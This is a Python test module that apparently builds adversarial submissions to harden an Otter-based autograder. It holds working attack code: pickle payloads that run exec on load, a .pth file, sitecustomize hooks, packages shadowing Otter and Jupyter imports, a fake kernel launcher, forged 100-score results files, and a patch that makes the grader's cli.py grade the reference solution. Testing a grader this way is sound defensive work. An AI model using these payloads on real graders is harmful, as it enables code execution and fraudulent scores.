"""Submissions that attack the Otter path as a student who has read the kit would: every file beside the
module that Otter, its kernel or the grader could load, import or read. Each attack, if it runs, leaves
a file named after itself in a folder of marks (outside the submission) and then tries to raise the
score: it appends to the kit's grader/cli.py (the copy in the autograder's source, which `grader grade`
imports afterwards) a line that grades the reference instead of the submission. So a mark says which
attack ran, and a stub scoring 100 says that it worked.

`otter run` takes a zip (which it unpacks) and Gradescope a folder; a symlink only exists in a folder."""

from __future__ import annotations

import json
import os
import pickle
import zipfile
from pathlib import Path

CLI_PATCH = """
# optlab-attack: grade the reference instead of the submission
_attacked_run_grade = _run_grade
def _run_grade(args, root):
    args.submission = root / "solutions" / "optimization_toolkit.py"
    return _attacked_run_grade(args, root)
"""


def payload(marks: Path, name: str, start: str = "__import__('os').getcwd()") -> str:
    """Python that marks `name` as run and patches the kit's cli.py, looking for the autograder's source
    folder upwards from `start` (an expression: where the attack runs)."""
    return (
        "import pathlib as _p\n"
        f"_marks = _p.Path({str(marks)!r}); _marks.mkdir(parents=True, exist_ok=True)\n"
        f"(_marks / {name!r}).write_text('ran')\n"
        f"for _d in [_p.Path({start}).resolve(), *_p.Path({start}).resolve().parents]:\n"
        "    _cli = _d / 'source/files/optlab/grader/cli.py'\n"
        "    if _cli.is_file():\n"
        "        if 'optlab-attack' not in _cli.read_text():\n"
        f"            _cli.write_text(_cli.read_text() + {CLI_PATCH!r})\n"
        "        break\n"
    )


class _Runs:
    """Pickled, runs `source` when unpickled (dill.load and pickle.load alike)."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self):
        return (exec, (self.source,))


def pickled(source: str) -> bytes:
    return pickle.dumps(_Runs(source))


def notebook(source: str) -> str:
    cell = {"cell_type": "code", "execution_count": None, "id": "a1", "metadata": {}, "outputs": [],
            "source": source}  # fmt: skip
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def common_attacks(marks: Path) -> dict[str, bytes]:
    """Files beside the module that cannot make intake's choice ambiguous (no other candidate .py at
    the top): Otter's log, packages named like what Otter, its kernel and the grader import, a .pth,
    site and user customization, files named like Otter's own and a tests folder."""
    here = "__import__('os').path.dirname(__file__)"
    files = {".OTTER_LOG": pickled(payload(marks, "otter-log")).decode("latin-1")}
    for package in ("otter", "grader", "nbformat", "dill", "IPython", "ipykernel", "jupyter_client"):
        files[f"{package}/__init__.py"] = payload(marks, f"package-{package}", here)
    files["optlab_attack.pth"] = "import os; exec(" + repr(payload(marks, "pth")) + ")\n"
    files["sitecustomize.py"] = payload(marks, "sitecustomize", here)
    files["usercustomize.py"] = payload(marks, "usercustomize", here)
    files["otter_config.json"] = json.dumps({"plugins": [], "show_hidden": True, "grade_from_log": True})
    files["results.json"] = json.dumps({"score": 100, "tests": []})
    files["results.pkl"] = pickled(payload(marks, "results-pkl")).decode("latin-1")
    files["submission_metadata.json"] = json.dumps({"users": [{"name": "x", "email": "x", "id": 1}]})
    files["tests/__init__.py"] = payload(marks, "tests-package", here)
    files["tests/q1.py"] = payload(marks, "tests-q1", here) + "OK_FORMAT = False\ntest = {}\n"
    return {name: text.encode("latin-1") for name, text in files.items()}


def module_attacks(marks: Path) -> dict[str, bytes]:
    """Other top-level .py files named like modules Otter or the grader import."""
    here = "__import__('os').path.dirname(__file__)"
    names = ("pytest", "dill", "json")
    return {f"{name}.py": payload(marks, f"module-{name}", here).encode() for name in names}


def launcher_module(lab: str, marks: Path) -> str:
    """The lab module named ipykernel_launcher.py: what `python -m ipykernel_launcher` (how Jupyter
    starts Otter's kernel, in the submission folder) runs as root, before starting the real kernel."""
    lines = [
        *payload(marks, "kernel-launcher").splitlines(),
        "import os, sys",
        "sys.path[:] = [p for p in sys.path if p not in ('', os.getcwd())]",
        "from ipykernel import kernelapp",
        "kernelapp.launch_new_instance()",
        "raise SystemExit(0)",
    ]
    block = "if __name__ == '__main__':\n" + "".join(f"    {line}\n" for line in lines)
    future = "from __future__ import annotations\n"  # must stay first: the block goes after it
    head, _, tail = lab.partition(future)
    return head + future + block + tail if tail else block + lab


def write_zip(path: Path, files: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in sorted(files.items()):
            zf.writestr(name, data)
    return path


def write_folder(folder: Path, files: dict[str, bytes], links: dict[str, str] | None = None) -> Path:
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    for name, target in (links or {}).items():
        os.symlink(target, folder / name)
    return folder


def marks_left(marks: Path) -> list[str]:
    return sorted(p.name for p in marks.iterdir()) if marks.is_dir() else []
